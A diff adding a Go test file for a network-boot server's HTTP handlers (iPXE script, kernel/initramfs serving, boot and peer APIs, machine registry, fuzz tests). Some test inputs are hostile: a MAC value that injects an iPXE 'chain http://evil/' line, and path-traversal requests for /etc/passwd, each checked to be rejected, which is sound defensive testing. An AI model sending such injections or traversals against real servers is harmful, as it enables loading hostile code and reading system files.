@@ -1,0 +1,350 @@
+package netboot
+
+import (
+	"bytes"
+	"encoding/json"
+	"fmt"
+	"io"
+	"log/slog"
+	"net/http"
+	"net/http/httptest"
+	"net/netip"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/boottorrent/boottorrent/config"
+	"github.com/boottorrent/boottorrent/netboot/bootapi"
+)
+
+// fakeCatalog is a Catalog with fixed answers.
+type fakeCatalog struct {
+	oses  []bootapi.OS
+	peers []netip.AddrPort
+}
+
+func (f *fakeCatalog) OSes() []bootapi.OS { return f.oses }
+func (f *fakeCatalog) Peers(os string, exclude netip.Addr, n int) []netip.AddrPort {
+	var out []netip.AddrPort
+	for _, p := range f.peers {
+		if p.Addr() != exclude && len(out) < n {
+			out = append(out, p)
+		}
+	}
+	return out
+}
+
+func testProject(t testing.TB) *config.Project {
+	c := config.Default()
+	c.Server.Interface = "lo"
+	c.Server.Address = "10.9.0.1"
+	c.Boot.Menu = []string{"debian", "alpine"}
+	c.Boot.DefaultOS = "alpine"
+	c.Boot.Timeout = config.Duration{Duration: 7 * time.Second}
+	c.Client.Cmdline = "quiet\nshell=1"
+	c.Torrent.Trackers = []string{"http://tracker.example/announce"}
+	c.Machines = map[string]config.Machine{"52:54:00:00:00:09": {Name: "pc9", OS: "debian"}}
+	return &config.Project{Dir: t.TempDir(), Config: &c, Prefix: netip.MustParsePrefix("10.9.0.0/24")}
+}
+
+func testServer(t testing.TB) (*Server, *fakeCatalog) {
+	dir := t.TempDir()
+	k := filepath.Join(dir, "vmlinuz")
+	i := filepath.Join(dir, "initramfs")
+	os.WriteFile(k, bytes.Repeat([]byte("K"), 10000), 0o644)
+	os.WriteFile(i, []byte("0123456789abcdefghij"), 0o644)
+	cat := &fakeCatalog{
+		oses: []bootapi.OS{{Name: "alpine", DispName: "Alpine"}, {Name: "hidden"}, {Name: "debian", DispName: "Debian"}},
+		peers: []netip.AddrPort{netip.MustParseAddrPort("10.9.0.1:6881"), netip.MustParseAddrPort("10.9.0.30:6881"),
+			netip.MustParseAddrPort("10.9.0.31:6881")},
+	}
+	s, err := New(Options{Project: testProject(t), Catalog: cat, ClientKernel: k, ClientInitramfs: i,
+		Logger: slog.New(slog.NewTextHandler(io.Discard, nil))})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return s, cat
+}
+
+func do(t testing.TB, h http.Handler, method, target, remote string, body io.Reader, hdr ...string) *httptest.ResponseRecorder {
+	t.Helper()
+	r := httptest.NewRequest(method, target, body)
+	r.RemoteAddr = remote
+	for i := 0; i+1 < len(hdr); i += 2 {
+		r.Header.Set(hdr[i], hdr[i+1])
+	}
+	w := httptest.NewRecorder()
+	h.ServeHTTP(w, r)
+	return w
+}
+
+func TestParseMAC(t *testing.T) {
+	for _, tc := range []struct{ in, want string }{
+		{"52:54:00:AB:cd:01", "52:54:00:ab:cd:01"},
+		{"52-54-00-ab-cd-01", "52:54:00:ab:cd:01"},
+		{"5254.00ab.cd01", ""},
+		{"52:54:00:ab:cd", ""},
+		{"52:54:00:ab:cd:01:02:03", ""},
+		{"${net0/mac}", ""},
+		{"52:54:00:ab:cd:0g", ""},
+		{"52:54:00:ab:cd:01\n", ""},
+		{"", ""},
+	} {
+		got, err := ParseMAC(tc.in)
+		if got != tc.want || (tc.want == "") != (err != nil) {
+			t.Errorf("ParseMAC(%q) = %q, %v; want %q", tc.in, got, err, tc.want)
+		}
+	}
+}
+
+func TestBootScript(t *testing.T) {
+	s, _ := testServer(t)
+	h := s.Handler()
+	w := do(t, h, "GET", "/boot.ipxe?mac=52-54-00-12-34-56", "10.9.0.50:1234", nil)
+	body := w.Body.String()
+	if w.Code != 200 || !strings.HasPrefix(body, "#!ipxe\n") {
+		t.Fatalf("status %d body %q", w.Code, body)
+	}
+	for _, want := range []string{
+		"kernel http://10.9.0.1:8080/client/vmlinuz initrd=initramfs console=tty0 console=ttyS0,115200 boottorrent.server=http://10.9.0.1:8080 boottorrent.mac=52:54:00:12:34:56 quiet shell=1 || goto retry\n",
+		"initrd --name initramfs http://10.9.0.1:8080/client/initramfs || goto retry\n",
+		"boot || goto retry\n", "dhcp && goto load\n", "goto dhcp\n", "imgfree\n",
+	} {
+		if !strings.Contains(body, want) {
+			t.Errorf("script lacks %q:\n%s", want, body)
+		}
+	}
+	// The request told the registry who this is.
+	if got := s.reg.MACForIP(netip.MustParseAddr("10.9.0.50")); got != "52:54:00:12:34:56" {
+		t.Errorf("MACForIP = %q", got)
+	}
+	ms := s.Machines()
+	if len(ms) != 1 || ms[0].Stage != bootapi.StageIPXE || ms[0].IP != "10.9.0.50" {
+		t.Errorf("machines = %+v", ms)
+	}
+
+	// A hostile mac never reaches the script; iPXE's own variable does.
+	for _, q := range []string{"mac=%0Achain%20http://evil/", "mac=${net0/mac}", "", "mac=1&mac=2", "%zz"} {
+		w := do(t, h, "GET", "/boot.ipxe?"+q, "10.9.0.77:1", nil)
+		if w.Code != 200 || !strings.Contains(w.Body.String(), "boottorrent.mac=${net0/mac} ") || strings.Contains(w.Body.String(), "evil") {
+			t.Errorf("query %q: %d %q", q, w.Code, w.Body.String())
+		}
+	}
+}
+
+func TestClientFiles(t *testing.T) {
+	s, _ := testServer(t)
+	h := s.Handler()
+	// Known machine: the initramfs download records the client stage.
+	do(t, h, "GET", "/boot.ipxe?mac=52:54:00:12:34:56", "10.9.0.50:1", nil)
+	w := do(t, h, "GET", bootapi.PathClientKernel, "10.9.0.50:2", nil)
+	if w.Code != 200 || w.Body.Len() != 10000 {
+		t.Fatalf("kernel: %d, %d bytes", w.Code, w.Body.Len())
+	}
+	w = do(t, h, "GET", bootapi.PathClientInitramfs, "10.9.0.50:3", nil, "Range", "bytes=10-13")
+	if w.Code != http.StatusPartialContent || w.Body.String() != "abcd" {
+		t.Fatalf("range: %d %q", w.Code, w.Body.String())
+	}
+	if st := s.Machines()[0].Stage; st != bootapi.StageIPXE {
+		t.Errorf("a partial download moved the stage to %s", st)
+	}
+	w = do(t, h, "GET", bootapi.PathClientInitramfs, "10.9.0.50:3", nil)
+	if w.Code != 200 || w.Body.String() != "0123456789abcdefghij" {
+		t.Fatalf("initramfs: %d %q", w.Code, w.Body.String())
+	}
+	if st := s.Machines()[0].Stage; st != bootapi.StageClient {
+		t.Errorf("stage after initramfs = %s", st)
+	}
+	// Many ranges: the whole file instead of a multipart body larger
+	// than the file.
+	rs := "bytes=0-0"
+	for i := 1; i < 100; i++ {
+		rs += fmt.Sprintf(",%d-%d", i%20, i%20)
+	}
+	w = do(t, h, "GET", bootapi.PathClientKernel, "10.9.0.51:1", nil, "Range", rs)
+	if w.Code != 200 || w.Body.Len() != 10000 {
+		t.Errorf("many ranges: %d, %d bytes", w.Code, w.Body.Len())
+	}
+	// Paths beneath the client files do not exist.
+	for _, p := range []string{bootapi.PathClientKernel + "/../../etc/passwd", "/client/../etc/passwd", "/client/", "/client/vmlinuz/x"} {
+		w = do(t, h, "GET", p, "10.9.0.51:1", nil)
+		if w.Code == 200 {
+			t.Errorf("GET %s: 200 %q", p, truncate(w.Body.String(), 40))
+		}
+	}
+	// A missing file is a clear 503, not a path in the body.
+	s.opts.ClientInitramfs = filepath.Join(t.TempDir(), "gone")
+	w = do(t, h, "GET", bootapi.PathClientInitramfs, "10.9.0.51:1", nil)
+	if w.Code != 503 || strings.Contains(w.Body.String(), "gone") {
+		t.Errorf("missing file: %d %q", w.Code, w.Body.String())
+	}
+}
+
+func TestBootAPI(t *testing.T) {
+	s, _ := testServer(t)
+	h := s.Handler()
+	w := do(t, h, "GET", "/api/v1/boot?mac=52:54:00:00:00:09", "10.9.0.9:1", nil)
+	var b bootapi.Boot
+	if err := json.Unmarshal(w.Body.Bytes(), &b); err != nil || w.Code != 200 {
+		t.Fatalf("%d %v %s", w.Code, err, w.Body)
+	}
+	if b.MAC != "52:54:00:00:00:09" || b.Machine != "pc9" || b.PinnedOS != "debian" || b.DefaultOS != "alpine" ||
+		b.TimeoutMS != 7000 || b.SeedMS != 30000 || b.ReportMS != 2000 || len(b.Trackers) != 1 {
+		t.Errorf("boot = %+v", b)
+	}
+	if len(b.Menu) != 2 || b.Menu[0].Name != "debian" || b.Menu[1].Name != "alpine" {
+		t.Errorf("menu not in boot.menu order without hidden: %+v", b.Menu)
+	}
+	w = do(t, h, "GET", "/api/v1/boot?mac=52:54:00:00:00:10", "10.9.0.10:1", nil)
+	b = bootapi.Boot{}
+	json.Unmarshal(w.Body.Bytes(), &b)
+	if b.PinnedOS != "" || b.Machine != "" {
+		t.Errorf("unpinned machine got %+v", b)
+	}
+	s.cfg.Boot.Timeout.Duration = -time.Second
+	w = do(t, h, "GET", "/api/v1/boot?mac=52:54:00:00:00:10", "10.9.0.10:1", nil)
+	json.Unmarshal(w.Body.Bytes(), &b)
+	if b.TimeoutMS != -1 {
+		t.Errorf("forever timeout = %d", b.TimeoutMS)
+	}
+	for _, q := range []string{"", "?mac=zz", "?mac=" + strings.Repeat("a", 5000)} {
+		if w := do(t, h, "GET", "/api/v1/boot"+q, "10.9.0.10:1", nil); w.Code != 400 {
+			t.Errorf("boot%s: %d", q, w.Code)
+		}
+	}
+}
+
+func report(t testing.TB, h http.Handler, remote string, r bootapi.Report) int {
+	b, _ := json.Marshal(r)
+	return do(t, h, "POST", bootapi.PathReport, remote, bytes.NewReader(b)).Code
+}
+
+func TestReportsAndPeers(t *testing.T) {
+	s, _ := testServer(t)
+	h := s.Handler()
+	macA, macB, macC := "52:54:00:00:00:0a", "52:54:00:00:00:0b", "52:54:00:00:00:0c"
+	if c := report(t, h, "10.9.0.30:5", bootapi.Report{MAC: strings.ToUpper(macA), Stage: bootapi.StageDownload, OS: "debian",
+		ListenPort: 6881, BytesTotal: 1000, BytesDone: 250, FromPeers: 100, FromSeeder: 150}); c != 204 {
+		t.Fatalf("report: %d", c)
+	}
+	report(t, h, "10.9.0.40:5", bootapi.Report{MAC: macB, Stage: bootapi.StageSeeding, OS: "debian", ListenPort: 7000, BytesTotal: 1000, BytesDone: 1000})
+	report(t, h, "10.9.0.41:5", bootapi.Report{MAC: macC, Stage: bootapi.StageDownload, OS: "alpine", ListenPort: 7000})
+
+	w := do(t, h, "GET", "/api/v1/peers?os=debian&mac="+macA, "10.9.0.30:9", nil)
+	var p bootapi.Peers
+	json.Unmarshal(w.Body.Bytes(), &p)
+	// The seeder first, the catalog's peers (the asker excluded), then
+	// the registry's machines on the same OS, no duplicates.
+	want := []string{"10.9.0.1:6881", "10.9.0.31:6881", "10.9.0.40:7000"}
+	if fmt.Sprint(p.Peers) != fmt.Sprint(want) {
+		t.Errorf("peers = %v, want %v", p.Peers, want)
+	}
+	for _, q := range []string{"?os=debian", "?mac=" + macA, "?os=nope&mac=" + macA, "?os=" + strings.Repeat("x", 100) + "&mac=" + macA} {
+		if w := do(t, h, "GET", "/api/v1/peers"+q, "10.9.0.30:9", nil); w.Code < 400 {
+			t.Errorf("peers%s: %d", q, w.Code)
+		}
+	}
+
+	var ms []bootapi.Machine
+	w = do(t, h, "GET", bootapi.PathMachines, "127.0.0.1:1", nil)
+	if err := json.Unmarshal(w.Body.Bytes(), &ms); err != nil || len(ms) != 3 {
+		t.Fatalf("machines: %v %s", err, w.Body)
+	}
+	a := ms[0]
+	if a.MAC != macA || a.IP != "10.9.0.30" || a.Progress != 0.25 || a.FromPeers != 100 || a.FromSeeder != 150 || a.OS != "debian" {
+		t.Errorf("machine a = %+v", a)
+	}
+	if _, ok := a.Stages[bootapi.StageDownload]; !ok {
+		t.Errorf("stages = %v", a.Stages)
+	}
+
+	// Bad reports are refused and change nothing.
+	for _, body := range []string{
+		`{"mac":"52:54:00:00:00:0a","stage":"nonsense"}`,
+		`{"mac":"52:54:00:00:00:0a","stage":"download","bytes_done":-1}`,
+		`{"mac":"xx","stage":"download"}`,
+		`{"mac":"52:54:00:00:00:0a","stage":"download","extra":1}`,
+		`{"mac":"52:54:00:00:00:0a","stage":"download","message":"` + strings.Repeat("x", 20000) + `"}`,
+		`not json`,
+	} {
+		w := do(t, h, "POST", bootapi.PathReport, "10.9.0.30:5", strings.NewReader(body))
+		if w.Code != 400 {
+			t.Errorf("report %q: %d", truncate(body, 60), w.Code)
+		}
+	}
+	if m := s.Machines()[0]; m.Stage != bootapi.StageDownload || m.BytesDone != 250 {
+		t.Errorf("bad report changed the machine: %+v", m)
+	}
+	// Starting over (a new DHCP) clears the download figures.
+	s.reg.Observe(macA, netip.MustParseAddr("10.9.0.30"), "bios", bootapi.StageDHCP)
+	if m := s.Machines()[0]; m.Stage != bootapi.StageDHCP || m.BytesDone != 0 || m.OS != "" || m.Arch != "bios" {
+		t.Errorf("after restart: %+v", m)
+	}
+	if got := s.reg.Peers("debian", "", 10); len(got) != 1 {
+		t.Errorf("registry peers after restart = %v", got)
+	}
+}
+
+func TestRegistryBounded(t *testing.T) {
+	r := NewRegistry(nil, 3, nil)
+	now := time.Unix(1000, 0)
+	r.now = func() time.Time { now = now.Add(time.Second); return now }
+	for i := range 5 {
+		r.Observe(fmt.Sprintf("52:54:00:00:00:%02x", i), netip.AddrFrom4([4]byte{10, 0, 0, byte(i)}), "", bootapi.StageDHCP)
+	}
+	// Machine 1 is seen again, so machine 2 is the oldest now.
+	r.Observe("52:54:00:00:00:02", netip.Addr{}, "", bootapi.StageTFTP)
+	r.Observe("52:54:00:00:00:05", netip.Addr{}, "", bootapi.StageDHCP)
+	var macs []string
+	for _, m := range r.Snapshot() {
+		macs = append(macs, m.MAC[15:])
+	}
+	if fmt.Sprint(macs) != "[02 04 05]" || r.Len() != 3 {
+		t.Errorf("kept %v", macs)
+	}
+	if r.MACForIP(netip.MustParseAddr("10.0.0.0")) != "" || r.MACForIP(netip.MustParseAddr("10.0.0.2")) != "52:54:00:00:00:02" {
+		t.Error("evicted machine's address still mapped")
+	}
+}
+
+func FuzzMACFromQuery(f *testing.F) {
+	for _, s := range []string{"mac=52:54:00:12:34:56", "mac=52-54-00-12-34-56", "mac=", "mac=%00", "a=b&mac=zz", "%", "mac=${net0/mac}"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, q string) {
+		mac, err := MACFromQuery(q)
+		if err != nil {
+			return
+		}
+		if mac != "" && (len(mac) != 17 || strings.Trim(mac, "0123456789abcdef:") != "") {
+			t.Fatalf("accepted %q as %q", q, mac)
+		}
+		script := BootScript(ScriptOptions{Base: "http://10.0.0.1:8080", MAC: mac})
+		if strings.Count(script, "\n") != strings.Count(BootScript(ScriptOptions{Base: "http://10.0.0.1:8080", MAC: "52:54:00:00:00:00"}), "\n") {
+			t.Fatalf("query %q changed the script's shape", q)
+		}
+	})
+}
+
+func FuzzReport(f *testing.F) {
+	f.Add([]byte(`{"mac":"52:54:00:00:00:0a","stage":"download","os":"debian","listen_port":6881,"bytes_total":10,"bytes_done":5}`))
+	f.Add([]byte(`{"mac":"52:54:00:00:00:0a","stage":"failed","message":"kexec refused"}`))
+	f.Add([]byte(`{"mac":"52:54:00:00:00:0a","stage":"seeding","bytes_total":1,"bytes_done":99999}`))
+	f.Add([]byte(`{}`))
+	f.Add([]byte(`[`))
+	s, _ := testServer(f)
+	h := s.Handler()
+	f.Fuzz(func(t *testing.T, body []byte) {
+		w := do(t, h, "POST", bootapi.PathReport, "10.9.0.30:5", bytes.NewReader(body))
+		if w.Code != 204 && w.Code != 400 {
+			t.Fatalf("status %d", w.Code)
+		}
+		for _, m := range s.Machines() {
+			if m.Progress < 0 || m.Progress > 1 {
+				t.Fatalf("progress %v", m.Progress)
+			}
+		}
+	})
+}
